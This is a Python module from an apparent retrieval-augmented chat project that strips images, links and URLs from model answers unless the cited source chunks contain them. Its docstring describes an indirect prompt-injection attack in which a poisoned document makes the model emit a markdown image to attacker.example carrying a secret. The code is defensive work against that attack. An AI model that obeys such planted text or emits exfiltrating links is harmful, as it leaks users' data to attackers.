"""Answers are data: an answer links only to URLs that the documents it cites contain.

A chat UI renders the answer as markdown, and a markdown image is fetched as soon as it is shown.
A poisoned document can ask the model to write ``![](https://attacker.example/p.png?q=<secret>)``;
the prompt marks documents as data (:mod:`ragline.query.prompt`), and this is the second line of
defence, on the final answer text, whichever generator wrote it. Images, links, reference
definitions, autolinks, bare URLs and HTML tags whose URL is not present in the cited chunks are
taken out: an image entirely, a link down to its text, a bare or autolinked URL replaced by
:data:`REMOVED`. Only ``http``, ``https`` and ``mailto`` URLs (and relative ones) can be kept at
all: ``javascript:``/``data:`` never are, even when a document contains them. Pure functions.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

#: what a removed bare URL or autolink becomes in the answer
REMOVED = "(ссылка удалена)"

_SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
_DEST = r"\s*(?:<(?P<adest>[^<>\n]*)>|(?P<dest>[^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*))" + _TITLE + r"\s*"
_IMAGE = re.compile(r"!\[(?P<text>[^\[\]]*)\]\(" + _DEST + r"\)")
_LINK = re.compile(r"\[(?P<text>[^\[\]]*)\]\(" + _DEST + r"\)")
_REF_DEF = re.compile(
    r"""^ {0,3}\[(?P<label>[^\[\]]+)\]:[ \t]*<?(?P<dest>[^\s<>]+)>?"""
    r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$\n?""",
    re.MULTILINE,
)
_AUTOLINK = re.compile(r"<(?P<dest>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^<>\s]*)>")
_TAG = re.compile(r"<[a-zA-Z][^<>]*>")
_ATTR_URL = re.compile(
    r"""(?:src|href|srcset|poster|data|action|formaction|background)\s*=\s*["']?([^"'\s>]+)""", re.I
)
_BARE = re.compile(
    r"""(?:\b[a-zA-Z][a-zA-Z0-9+.-]{1,31}://|\bwww\.)[^\s<>()\[\]"'`«»]+(?:\([^\s<>()]*\)[^\s<>()\[\]"'`«»]*)*"""
)
_TRAILING = ".,;:!?'\"»)"
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def _norm(url: str) -> str:
    return url.strip().rstrip(_TRAILING)


def source_urls(sources: list[str]) -> set[str]:
    """Every URL written in the cited chunks (bare, autolinked or as a markdown destination)."""
    found: set[str] = set()
    for text in sources:
        found.update(_norm(m.group(0)) for m in _BARE.finditer(text))
        for pattern in (_LINK, _IMAGE):
            for m in pattern.finditer(text):
                found.add(_norm(m.group("adest") or m.group("dest") or ""))
    found.discard("")
    return found


def allowed(url: str, sources: list[str], urls: set[str] | None = None) -> bool:
    """Whether an answer may keep ``url``: a safe scheme, and the URL is in the cited chunks
    (an absolute URL as a whole; a relative one as written)."""
    # what a browser would fetch: entities decoded, control characters and spaces dropped,
    # backslashes read as slashes (a leading double backslash is "//host")
    plain = _CONTROL.sub("", html.unescape(url)).replace("\\", "/")
    scheme = urlsplit(plain).scheme.lower() if ":" in plain else ""
    if scheme and scheme not in _SAFE_SCHEMES:
        return False
    if not _norm(url):
        return False
    if scheme or plain.startswith("//") or plain.lower().startswith("www."):
        return _norm(url) in (source_urls(sources) if urls is None else urls)
    # a relative URL counts only as a whole token ("x" is not in "example")
    token = re.compile(r"(?<![\w/.%-])" + re.escape(_norm(url)) + r"(?![\w/.%-])")
    return any(token.search(text) for text in sources)


def sanitize_links(answer: str, sources: list[str]) -> tuple[str, list[str]]:
    """``answer`` without images, links and URLs that ``sources`` (the texts of the cited chunks)
    do not contain, and the URLs taken out, in order of appearance."""
    urls = source_urls(sources)
    removed: list[str] = []

    def keep(url: str) -> bool:
        if allowed(url, sources, urls):
            return True
        if url not in removed:
            removed.append(url)
        return False

    def image(m: re.Match) -> str:
        return m.group(0) if keep(m.group("adest") or m.group("dest") or "") else ""

    def link(m: re.Match) -> str:
        if keep(m.group("adest") or m.group("dest") or ""):
            return m.group(0)
        text = m.group("text")
        return f"[{text}]" if text.isdigit() else text  # "[1](url)" keeps its citation

    def ref_def(m: re.Match) -> str:
        return m.group(0) if keep(m.group("dest")) else ""

    def autolink(m: re.Match) -> str:
        return m.group(0) if keep(m.group("dest")) else REMOVED

    def tag(m: re.Match) -> str:
        inner = _ATTR_URL.findall(m.group(0)) + [u.group(0) for u in _BARE.finditer(m.group(0))]
        return m.group(0) if all([keep(u) for u in inner]) else ""  # every URL recorded

    def bare(m: re.Match) -> str:
        url = _norm(m.group(0))
        return m.group(0) if keep(url) else REMOVED + m.group(0)[len(url) :]

    out = _IMAGE.sub(image, answer)
    out = _LINK.sub(link, out)
    out = _REF_DEF.sub(ref_def, out)
    out = _AUTOLINK.sub(autolink, out)
    out = _TAG.sub(tag, out)
    out = _BARE.sub(bare, out)
    return out, removed
